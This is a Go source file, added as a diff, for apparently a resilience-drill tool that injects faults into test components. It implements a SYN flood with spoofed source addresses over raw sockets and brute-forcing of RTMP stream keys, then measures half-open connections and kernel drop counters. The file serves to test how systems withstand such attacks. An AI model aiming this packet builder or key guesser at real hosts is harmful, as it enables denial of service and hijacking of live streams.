@@ -1,0 +1,180 @@
+package attack
+
+import (
+	"context"
+	"encoding/binary"
+	"fmt"
+	"math/rand/v2"
+	"net"
+	"strconv"
+	"strings"
+	"time"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/livedrill/livedrill/injectors"
+	"github.com/livedrill/livedrill/target"
+	"github.com/livedrill/livedrill/target/hosts"
+	"github.com/livedrill/livedrill/target/rtmp"
+)
+
+// SYN sends a component the first packet of TCP connections from addresses that nobody has: each holds a place in its kernel until
+// that gives up, or answers with cookies.
+type SYN struct {
+	repeated
+	Port string `json:"port" help:"protocol of the port"`
+}
+
+// Check is part of injectors.Fault.
+func (f *SYN) Check(_ context.Context, on target.Component) error { return free(on, f.Port) }
+
+// Inject is part of injectors.Fault.
+func (f *SYN) Inject(ctx context.Context, on target.Component) error {
+	addr, err := inRange(on, f.Port)
+	if err != nil {
+		return err
+	}
+	_, port, err := net.SplitHostPort(addr)
+	if err != nil {
+		return err
+	}
+	number, err := strconv.Atoi(port)
+	if err != nil {
+		return err
+	}
+	to := net.ParseIP(on.Addr).To4()
+	if to == nil {
+		return fmt.Errorf("%s is no IPv4 address", on.Addr)
+	}
+	fd := -1
+	if err := hosts.InNamespace(on.Handles.Network.Bridge, func() (err error) {
+		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
+		return err
+	}); err != nil {
+		return fmt.Errorf("raw socket: %w", err)
+	}
+	dest := &unix.SockaddrInet4{Addr: [4]byte(to)}
+	return f.begin(ctx, on, func(context.Context, uint64) answer {
+		if unix.Sendto(fd, synTo(to, uint16(number)), 0, dest) != nil {
+			return failed
+		}
+		return got
+	}, func() { _ = unix.Close(fd) })
+}
+
+// synTo makes an IPv4 packet with a TCP segment that asks for a connection (RFC 791 and 9293), from a random address of 10.77.128.0/17:
+// the range's own network, in which no host has such an address.
+func synTo(to net.IP, port uint16) []byte {
+	p := make([]byte, 40)
+	p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_TCP
+	binary.BigEndian.PutUint16(p[2:], 40)
+	binary.BigEndian.PutUint16(p[4:], uint16(rand.Uint32()))
+	copy(p[12:], []byte{10, 77, 128 + byte(rand.IntN(128)), byte(1 + rand.IntN(254))})
+	copy(p[16:], to)
+	tcp := p[20:]
+	binary.BigEndian.PutUint16(tcp, uint16(1024+rand.IntN(64000)))
+	binary.BigEndian.PutUint16(tcp[2:], port)
+	binary.BigEndian.PutUint32(tcp[4:], rand.Uint32())
+	tcp[12], tcp[13] = 5<<4, 0x02 // five words; SYN
+	binary.BigEndian.PutUint16(tcp[14:], 64240)
+	pseudo := append(append([]byte{}, p[12:20]...), 0, unix.IPPROTO_TCP, 0, 20)
+	binary.BigEndian.PutUint16(tcp[16:], checksum(pseudo, tcp))
+	return p
+}
+
+// checksum is the Internet checksum (RFC 1071) over several pieces of even length.
+func checksum(pieces ...[]byte) uint16 {
+	sum := uint32(0)
+	for _, p := range pieces {
+		for i := 0; i+1 < len(p); i += 2 {
+			sum += uint32(binary.BigEndian.Uint16(p[i:]))
+		}
+	}
+	for sum > 0xffff {
+		sum = sum&0xffff + sum>>16
+	}
+	return ^uint16(sum)
+}
+
+// Effect reads from the component's own kernel how many connections are half open, how many cookies it sent, and how many requests it
+// dropped.
+func (f *SYN) Effect(ctx context.Context, on target.Component) (injectors.Measured, error) {
+	before, err := synCounters(on)
+	if err != nil {
+		return injectors.Measured{}, err
+	}
+	m, err := f.repeated.Effect(ctx, on)
+	if err != nil {
+		return m, err
+	}
+	half, err := connections(on, "03")
+	if err != nil {
+		return m, err
+	}
+	after, err := synCounters(on)
+	m.Is["half_open"], m.Is["cookies_or_drops"] = float64(half), after-before
+	delete(m.Is, "got_through")
+	if m.Bites = m.Bites && (half > 0 || after > before); !m.Bites && !m.Clean {
+		m.Reason += "; its kernel has no half-open connection"
+	}
+	return m, err
+}
+
+// synCounters adds up what the kernel counts when half-open connections have filled its queue.
+func synCounters(on target.Component) (n float64, err error) {
+	err = hosts.InNamespace(on.Handles.Network.Namespace, func() error {
+		for _, name := range []string{"TCPReqQFullDoCookies", "TCPReqQFullDrop", "ListenDrops"} {
+			v, err := hosts.Counter("/proc/thread-self/net/netstat", "TcpExt", name)
+			if err != nil {
+				return err
+			}
+			n += v
+		}
+		return nil
+	})
+	return n, err
+}
+
+// connections counts a host's TCP connections in a state from the bridge's network, as its kernel shows them.
+func connections(on target.Component, state string) (n int, err error) {
+	from := strings.SplitN(on.Handles.Network.Peer, ".", 3)
+	err = hosts.InNamespace(on.Handles.Network.Namespace, func() error {
+		return hosts.Sockets(func(s hosts.Socket) {
+			remote := strings.SplitN(s.Remote.String(), ".", 3)
+			if s.State == state && len(remote) == 3 && len(from) == 3 && remote[0] == from[0] && remote[1] == from[1] &&
+				(state == "03" || s.Remote.String() == on.Handles.Network.Peer) {
+				n++
+			}
+		})
+	})
+	return n, err
+}
+
+// Keys guesses stream keys: whoever hits one goes on the air in somebody else's name.
+type Keys struct{ repeated }
+
+// Check is part of injectors.Fault.
+func (*Keys) Check(_ context.Context, on target.Component) error { return free(on, "rtmp") }
+
+// Inject is part of injectors.Fault.
+func (f *Keys) Inject(ctx context.Context, on target.Component) error {
+	addr, err := inRange(on, "rtmp")
+	if err != nil {
+		return err
+	}
+	return f.begin(ctx, on, func(ctx context.Context, n uint64) (a answer) {
+		_ = hosts.InNamespace(on.Handles.Network.Bridge, func() error {
+			conn, err := rtmp.Dial(ctx, addr, "live", 3*time.Second)
+			if err != nil {
+				return err
+			}
+			defer conn.Close()
+			a = turned
+			if conn.Publish(fmt.Sprintf("streamers-%d.%016x", n%4, rand.Uint64())) == nil {
+				a = got
+			}
+			return nil
+		})
+		return a
+	}, func() {})
+}
